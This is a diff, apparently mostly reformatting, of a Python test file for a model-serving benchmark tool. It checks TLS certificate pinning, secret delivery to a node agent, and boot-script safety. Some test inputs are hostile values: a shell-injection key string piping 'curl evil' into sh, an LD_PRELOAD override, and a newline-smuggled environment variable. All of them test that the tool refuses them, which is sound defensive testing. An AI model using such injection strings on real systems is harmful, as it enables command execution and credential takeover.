@@ -5,6 +5,7 @@ secrets are not in the user-data but pushed to the agent over the pinned channel
 Real servers throughout: the hardware emulator and the node agent as processes (``python -m``),
 the sandbox's node backing booted from a rendered boot script, real httpx/ssl clients.
 """
+
 from __future__ import annotations
 
 import asyncio
@@ -46,7 +47,7 @@ def _target(provider="aws", **changes):
     return plan_from_dict(raw).targets[0]
 
 
-MODEL = _target("aws").model_spec.hf_id      # the emulator answers to the target's model
+MODEL = _target("aws").model_spec.hf_id  # the emulator answers to the target's model
 
 
 def _write_identity(d: Path, ident: tls.NodeTLS) -> tuple[Path, Path]:
@@ -92,13 +93,35 @@ def node_tls(tmp_path_factory):
 def emulator(tmp_path_factory, node_tls):
     """The hardware emulator (scripted timing) serving https with the node's certificate."""
     d = tmp_path_factory.mktemp("emu")
-    (d / "config.json").write_text(json.dumps({"mode": "scripted", "served_model": MODEL, "api_key_env": "EMU_KEY",
-                                               "scripted": {"ttft_ms": 2, "itl_ms": 0.5}}))
+    (d / "config.json").write_text(
+        json.dumps(
+            {
+                "mode": "scripted",
+                "served_model": MODEL,
+                "api_key_env": "EMU_KEY",
+                "scripted": {"ttft_ms": 2, "itl_ms": 0.5},
+            }
+        )
+    )
     port = _free_port()
-    proc = subprocess.Popen([sys.executable, "-m", "bakeoff.serving.emulator", "--config", str(d / "config.json"),
-                             "--port", str(port), "--tls-cert", str(node_tls["cert"]), "--tls-key", str(node_tls["key"])],
-                            env={**os.environ, "EMU_KEY": KEY}, stdout=subprocess.DEVNULL,
-                            stderr=subprocess.DEVNULL)
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "bakeoff.serving.emulator",
+            "--config",
+            str(d / "config.json"),
+            "--port",
+            str(port),
+            "--tls-cert",
+            str(node_tls["cert"]),
+            "--tls-key",
+            str(node_tls["key"]),
+        ],
+        env={**os.environ, "EMU_KEY": KEY},
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     _wait_port(port, proc, "emulator")
     yield f"https://127.0.0.1:{port}"
     _stop(proc)
@@ -106,9 +129,10 @@ def emulator(tmp_path_factory, node_tls):
 
 # --- pinning ------------------------------------------------------------------------------------
 
+
 def test_node_identity_is_per_node_and_stable_across_retries():
     a, b = tls.node_identity("r1", "t"), tls.node_identity("r1", "t")
-    assert a.cert_pem == b.cert_pem and a.key_pem == b.key_pem          # a retried provision: the same cert
+    assert a.cert_pem == b.cert_pem and a.key_pem == b.key_pem  # a retried provision: the same cert
     assert tls.node_identity("r2", "t").cert_pem != a.cert_pem
     assert tls.node_identity("r1", "u").cert_pem != a.cert_pem
     assert "PRIVATE" not in repr(a) and a.key_pem not in repr(a)
@@ -124,7 +148,7 @@ def test_readiness_pins_the_node_certificate(emulator, node_tls):
 def test_plain_http_to_a_tls_node_is_refused_before_any_key_is_sent(emulator, node_tls):
     with pytest.raises(ValueError, match="https"):
         wait_ready(emulator.replace("https", "http"), KEY, 1.0, tls_cert=node_tls["mine"].cert_pem)
-    with pytest.raises(httpx.HTTPError):       # the server does not speak clear text at all
+    with pytest.raises(httpx.HTTPError):  # the server does not speak clear text at all
         httpx.get(emulator.replace("https", "http") + "/health", timeout=3)
 
 
@@ -132,8 +156,9 @@ def test_benchmark_client_pins_and_refuses_another_certificate(emulator, node_tl
     async def one(cert):
         c = StreamingClient(emulator, api_key=KEY, timeout_s=10, tls_cert=cert)
         try:
-            return await c.stream(c.build("/v1/completions", {"model": MODEL, "prompt": "hi", "max_tokens": 4,
-                                                               "stream": True}))
+            return await c.stream(
+                c.build("/v1/completions", {"model": MODEL, "prompt": "hi", "max_tokens": 4, "stream": True})
+            )
         finally:
             await c.close()
 
@@ -154,6 +179,7 @@ def test_a_public_ca_certificate_is_not_enough(emulator, node_tls):
 def test_accuracy_gate_and_provenance_pin_through_the_endpoint(emulator, node_tls):
     from bakeoff.bench.provenance import snapshot_provenance
     from bakeoff.serving.endpoint import Endpoint
+
     good = Endpoint(target="t", base_url=emulator, model=MODEL, stack="vllm", tls_cert=node_tls["mine"].cert_pem)
     bad = Endpoint(target="t", base_url=emulator, model=MODEL, stack="vllm", tls_cert=node_tls["other"].cert_pem)
     assert snapshot_provenance(good, KEY, include_metrics=False)["models"]["json"]["data"][0]["id"] == MODEL
@@ -165,8 +191,14 @@ def test_accuracy_gate_and_provenance_pin_through_the_endpoint(emulator, node_tl
 def test_lm_eval_backend_refuses_a_pinned_node():
     from bakeoff.quality.lm_eval_backend import evaluate
     from bakeoff.serving.endpoint import Endpoint
-    ep = Endpoint(target="t", base_url="https://203.0.113.7:8000", model=MODEL, stack="vllm",
-                  tls_cert=tls.node_identity("r", "t").cert_pem)
+
+    ep = Endpoint(
+        target="t",
+        base_url="https://203.0.113.7:8000",
+        model=MODEL,
+        stack="vllm",
+        tls_cert=tls.node_identity("r", "t").cert_pem,
+    )
     with pytest.raises(RuntimeError, match="backend: builtin"):
         evaluate(ep, KEY, None)
 
@@ -178,6 +210,7 @@ def test_a_garbled_certificate_is_refused_naming_the_field():
 
 # --- the node agent over TLS, and serving secrets ------------------------------------------------
 
+
 @pytest.fixture(scope="module")
 def agent(tmp_path_factory, node_tls, emulator):
     d = tmp_path_factory.mktemp("agentnode")
@@ -185,11 +218,34 @@ def agent(tmp_path_factory, node_tls, emulator):
     (d / "api_key").chmod(0o600)
     (d / "boot.log").write_text("bakeoff: boot\n")
     port = _free_port()
-    proc = subprocess.Popen([sys.executable, "-m", "bakeoff", "agent", "--serve-url", emulator,
-                             "--key-file", str(d / "api_key"), "--log-dir", str(d), "--work-dir", str(d / "work"),
-                             "--host", "127.0.0.1", "--port", str(port), "--tls-cert", str(node_tls["cert"]),
-                             "--tls-key", str(node_tls["key"]), "--secrets-file", str(d / "secrets" / "serve.env")],
-                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "bakeoff",
+            "agent",
+            "--serve-url",
+            emulator,
+            "--key-file",
+            str(d / "api_key"),
+            "--log-dir",
+            str(d),
+            "--work-dir",
+            str(d / "work"),
+            "--host",
+            "127.0.0.1",
+            "--port",
+            str(port),
+            "--tls-cert",
+            str(node_tls["cert"]),
+            "--tls-key",
+            str(node_tls["key"]),
+            "--secrets-file",
+            str(d / "secrets" / "serve.env"),
+        ],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     _wait_port(port, proc, "agent")
     yield {"url": f"https://127.0.0.1:{port}", "dir": d}
     _stop(proc)
@@ -198,8 +254,10 @@ def agent(tmp_path_factory, node_tls, emulator):
 def test_agent_serves_tls_pinned_and_refuses_an_impostor_pin(agent, node_tls):
     with AgentClient(agent["url"], KEY, tls_cert=node_tls["mine"].cert_pem) as c:
         assert c.wait_healthy(20, poll_s=0.1)["ok"]
-    with AgentClient(agent["url"], KEY, tls_cert=node_tls["other"].cert_pem) as c, \
-            pytest.raises(AgentError, match="pinned certificate"):
+    with (
+        AgentClient(agent["url"], KEY, tls_cert=node_tls["other"].cert_pem) as c,
+        pytest.raises(AgentError, match="pinned certificate"),
+    ):
         c.health()
     with pytest.raises(httpx.HTTPError):
         httpx.get(agent["url"].replace("https", "http") + "/agent/health", headers={"Authorization": f"Bearer {KEY}"})
@@ -207,7 +265,9 @@ def test_agent_serves_tls_pinned_and_refuses_an_impostor_pin(agent, node_tls):
 
 def test_secrets_reach_a_root_only_file_and_never_come_back(agent, node_tls):
     url, d = agent["url"], agent["dir"]
-    anon = httpx.put(url + "/agent/secrets", json={"env": {"HF_TOKEN": HF}}, verify=tls.pinned_context(node_tls["mine"].cert_pem))
+    anon = httpx.put(
+        url + "/agent/secrets", json={"env": {"HF_TOKEN": HF}}, verify=tls.pinned_context(node_tls["mine"].cert_pem)
+    )
     assert anon.status_code == 401 and not (d / "secrets" / "serve.env").exists()
     with AgentClient(url, KEY, tls_cert=node_tls["mine"].cert_pem) as c:
         answer = c.put_secrets({"HF_TOKEN": HF})
@@ -219,8 +279,17 @@ def test_secrets_reach_a_root_only_file_and_never_come_back(agent, node_tls):
         assert HF not in c.logs() and "<secret>" in c.logs()
 
 
-@pytest.mark.parametrize("env", [{"LD_PRELOAD": "/tmp/x.so"}, {"VLLM_API_KEY": "k" * 20}, {"hf_token": "x"},
-                                 {"HF_TOKEN": "a\nVLLM_API_KEY=owned"}, {"HF_TOKEN": ""}, {"HF_TOKEN": 5}])
+@pytest.mark.parametrize(
+    "env",
+    [
+        {"LD_PRELOAD": "/tmp/x.so"},
+        {"VLLM_API_KEY": "k" * 20},
+        {"hf_token": "x"},
+        {"HF_TOKEN": "a\nVLLM_API_KEY=owned"},
+        {"HF_TOKEN": ""},
+        {"HF_TOKEN": 5},
+    ],
+)
 def test_secrets_the_node_must_not_take_are_refused_without_echo(agent, node_tls, env):
     with AgentClient(agent["url"], KEY, tls_cert=node_tls["mine"].cert_pem) as c, pytest.raises(AgentError) as err:
         c.put_secrets(env)
@@ -230,9 +299,17 @@ def test_secrets_the_node_must_not_take_are_refused_without_echo(agent, node_tls
 
 def test_deploy_pushes_secrets_before_readiness_and_pins_the_endpoint(agent, emulator, node_tls, tmp_path):
     host, port = emulator.rsplit("//", 1)[1].split(":")
-    inst = Instance(provider="aws", id="i-1", target="b200-vllm", run_id="r", state="running", host=host,
-                    port=int(port), details={"tls_cert": node_tls["mine"].cert_pem, "agent_url": agent["url"]})
-    assert inst.base_url == emulator                                # https because the node has a certificate
+    inst = Instance(
+        provider="aws",
+        id="i-1",
+        target="b200-vllm",
+        run_id="r",
+        state="running",
+        host=host,
+        port=int(port),
+        details={"tls_cert": node_tls["mine"].cert_pem, "agent_url": agent["url"]},
+    )
+    assert inst.base_url == emulator  # https because the node has a certificate
     (agent["dir"] / "secrets" / "serve.env").unlink(missing_ok=True)
     ep = deploy_mod.deploy(_target("aws"), inst, api_key=KEY, out_dir=tmp_path, secrets={"HF_TOKEN": HF})
     assert (agent["dir"] / "secrets" / "serve.env").read_text() == f"HF_TOKEN={HF}\n"
@@ -242,8 +319,16 @@ def test_deploy_pushes_secrets_before_readiness_and_pins_the_endpoint(agent, emu
 
 
 def test_deploy_with_secrets_but_no_agent_fails_clearly(tmp_path):
-    inst = Instance(provider="aws", id="i-1", target="b200-vllm", run_id="r", state="running", host="127.0.0.1",
-                    port=9, details={"tls_cert": tls.node_identity("r", "t").cert_pem})
+    inst = Instance(
+        provider="aws",
+        id="i-1",
+        target="b200-vllm",
+        run_id="r",
+        state="running",
+        host="127.0.0.1",
+        port=9,
+        details={"tls_cert": tls.node_identity("r", "t").cert_pem},
+    )
     with pytest.raises(deploy_mod.DeployFailed, match="need the node agent") as err:
         deploy_mod.deploy(_target("aws"), inst, api_key=KEY, out_dir=tmp_path, secrets={"HF_TOKEN": HF})
     assert HF not in str(err.value) and HF not in (tmp_path / "deploy.json").read_text()
@@ -251,20 +336,34 @@ def test_deploy_with_secrets_but_no_agent_fails_clearly(tmp_path):
 
 # --- the boot script --------------------------------------------------------------------------------
 
-AGENT = {"url": "https://bucket.s3.amazonaws.com/client.zip?sig=x", "sha256": "a" * 64, "requirements": ["httpx==0.28.1"]}
+AGENT = {
+    "url": "https://bucket.s3.amazonaws.com/client.zip?sig=x",
+    "sha256": "a" * 64,
+    "requirements": ["httpx==0.28.1"],
+}
 
 
 def _spec(**kw):
     ident = tls.node_identity("r", "t")
-    return {"api_key": KEY, "expires_at": time.time() + 3600, "shutdown_after_s": 3600, "agent": AGENT,
-            "tls": {"cert": ident.cert_pem, "key": ident.key_pem}, **kw}
+    return {
+        "api_key": KEY,
+        "expires_at": time.time() + 3600,
+        "shutdown_after_s": 3600,
+        "agent": AGENT,
+        "tls": {"cert": ident.cert_pem, "key": ident.key_pem},
+        **kw,
+    }
 
 
 def _docker_run_words(script: str, cmd: str = "docker run -d --name bakeoff-serve") -> list[str]:
     """The serving ``docker run`` line as bash expands it (docker stubbed), with the key in scope."""
     line = next(x for x in script.splitlines() if x.startswith(cmd))
-    out = subprocess.run(["bash", "-c", f'docker() {{ printf "%s\\n" "$@"; }}\nBAKEOFF_API_KEY={KEY}\n{line}'],
-                         capture_output=True, text=True, check=True).stdout
+    out = subprocess.run(
+        ["bash", "-c", f'docker() {{ printf "%s\\n" "$@"; }}\nBAKEOFF_API_KEY={KEY}\n{line}'],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
     return out.splitlines()
 
 
@@ -281,7 +380,7 @@ def test_the_key_is_on_no_docker_argv_and_the_server_serves_tls(stack):
         assert words[words.index("/etc/bakeoff/key.env") - 1] == "--env-file"
     else:
         assert words[words.index("--config") + 1] == userdata.SGLANG_CONFIG
-    assert s.count(KEY) == 1                                       # once, into the root-only file
+    assert s.count(KEY) == 1  # once, into the root-only file
     # wherever the script reads the key back, only bash's printf builtin sees it (no process argv)
     readers = [x.strip() for x in s.splitlines() if "$(cat /etc/bakeoff/api_key)" in x]
     assert readers and all(x.startswith("printf ") for x in readers), readers
@@ -296,7 +395,7 @@ def test_serving_secrets_are_not_in_user_data_and_the_node_waits_for_them():
     words = _docker_run_words(s)
     assert words[words.index(userdata.SECRETS_ENV) - 1] == "--env-file"
     wait, run = s.index(f"until [ -s {userdata.SECRETS_ENV} ]"), s.index("docker run -d --name bakeoff-serve")
-    assert wait < run and f"-ge {userdata.SECRETS_WAIT_S}" in s        # bounded, and before the server starts
+    assert wait < run and f"-ge {userdata.SECRETS_WAIT_S}" in s  # bounded, and before the server starts
     assert f"--secrets-file {userdata.SECRETS_ENV}" in s
 
 
@@ -307,13 +406,15 @@ def test_secrets_without_a_node_agent_are_refused_before_launch():
 
 def test_a_tls_key_that_is_not_a_pem_key_is_refused():
     with pytest.raises(ValueError, match="spec.tls.key"):
-        userdata.render_for(_target("aws"), _spec(tls={"cert": tls.node_identity("r", "t").cert_pem,
-                                                       "key": "'; curl evil | sh #"}))
+        userdata.render_for(
+            _target("aws"), _spec(tls={"cert": tls.node_identity("r", "t").cert_pem, "key": "'; curl evil | sh #"})
+        )
 
 
 def test_the_sandbox_node_boots_tls_from_its_user_data(tmp_path, node_tls):
     """The fake clouds' node: the emulator serves the certificate the user-data carried."""
     from bakeoff.sandbox.backing import Backing
+
     ident = tls.node_identity("r-sandbox", "b200")
     s = userdata.render_for(_target("aws"), _spec(agent=None, tls={"cert": ident.cert_pem, "key": ident.key_pem}))
     assert userdata.tls_from_userdata(s) == {"cert": ident.cert_pem, "key": ident.key_pem}
@@ -335,20 +436,30 @@ def test_the_sandbox_node_boots_tls_from_its_user_data(tmp_path, node_tls):
 def test_provision_gives_cloud_nodes_a_pinned_https_endpoint():
     """What the pipeline stores for later tasks: the public certificate, never the private key."""
     from bakeoff import pipeline
+
     spec: dict = {}
     cert = pipeline._node_tls(_target("aws"), "r-prov", spec)
     assert cert == tls.node_identity("r-prov", _target("aws").slug).cert_pem
     assert spec["tls"]["key"].startswith("-----BEGIN PRIVATE KEY-----")
-    inst = Instance(provider="aws", id="i", target="t", run_id="r", state="running", host="203.0.113.7", port=8000,
-                    details={"tls_cert": cert})
+    inst = Instance(
+        provider="aws",
+        id="i",
+        target="t",
+        run_id="r",
+        state="running",
+        host="203.0.113.7",
+        port=8000,
+        details={"tls_cert": cert},
+    )
     assert inst.base_url == "https://203.0.113.7:8000" and "PRIVATE" not in json.dumps(inst.to_dict())
     local = _target("aws").model_copy(update={"provider": "local"})
-    assert pipeline._node_tls(local, "r", {}) is None               # loopback emulator: plain http (see local.py)
+    assert pipeline._node_tls(local, "r", {}) is None  # loopback emulator: plain http (see local.py)
 
 
 def test_provision_refuses_secrets_without_an_agent_before_any_cloud_call():
     from bakeoff import pipeline
     from bakeoff.providers import ProviderError
+
     spec = {"secrets": {"HF_TOKEN": HF}, "agent": None}
     with pytest.raises(ProviderError, match=r"secrets: .*no client bundle") as err:
         pipeline._node_tls(_target("aws"), "r", spec)
